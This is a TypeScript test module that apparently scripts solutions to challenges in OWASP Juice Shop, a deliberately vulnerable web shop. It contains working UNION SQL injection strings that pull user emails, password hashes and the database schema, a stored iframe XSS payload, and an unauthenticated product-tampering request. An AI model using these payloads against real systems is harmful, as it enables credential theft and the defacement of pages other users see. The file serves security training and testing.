import request from 'supertest'
import type { AttackTarget, Attacks } from '../../lib/attacks'
import { authorised, expectStatus, registerAndLogIn } from '../../testing/attack-steps'

/** The search is concatenated into `... LIKE '%q%' OR ...)) ...`: close it and UNION nine columns of your own. */
export const UNION_INJECTIONS = {
  unionSqlInjectionChallenge: "qwert')) UNION SELECT id,email,password,'4','5','6','7','8','9' FROM Users--",
  dbSchemaChallenge: "qwert')) UNION SELECT sql,'2','3','4','5','6','7','8','9' FROM sqlite_master--",
} as const

export const IFRAME_XSS = '<iframe src="javascript:alert(`xss`)">'
export const SLACK_LINK = '<a href="https://owasp.slack.com" target="_blank">'

/** A product as the API lists it. */
async function productNamed(target: AttackTarget, name: string): Promise<{ id: number; description: string }> {
  const products = expectStatus(await request(target).get('/api/Products'), 200).body.data as { id: number; name: string; description: string }[]
  const product = products.find((candidate) => candidate.name === name)
  if (!product) throw new Error(`no product named ${name}`)
  return product
}

const unionSearch = (q: string) => (target: AttackTarget) => request(target).get('/rest/products/search').query({ q })

export const productsAttacks = {
  unionSqlInjectionChallenge: unionSearch(UNION_INJECTIONS.unionSqlInjectionChallenge),
  dbSchemaChallenge: unionSearch(UNION_INJECTIONS.dbSchemaChallenge),
  // the API stores a new product's description as sent, where the web app shows it unescaped
  restfulXssChallenge: async (target) => {
    const session = await registerAndLogIn(target)
    return expectStatus(await authorised(target, session).post('/api/Products').send({ name: 'XSS', description: IFRAME_XSS, price: 47.11 }), 201)
  },
  // PUT /api/Products/:id needs no login: O-Saft's "More..." link now leads to the Slack chat
  changeProductChallenge: async (target) => {
    const oSaft = await productNamed(target, 'OWASP SSL Advanced Forensic Tool (O-Saft)')
    const description = oSaft.description.replace(/<a [^>]*>/, SLACK_LINK)
    return expectStatus(await request(target).put(`/api/Products/${oSaft.id}`).send({ description }), 200)
  },
} satisfies Attacks
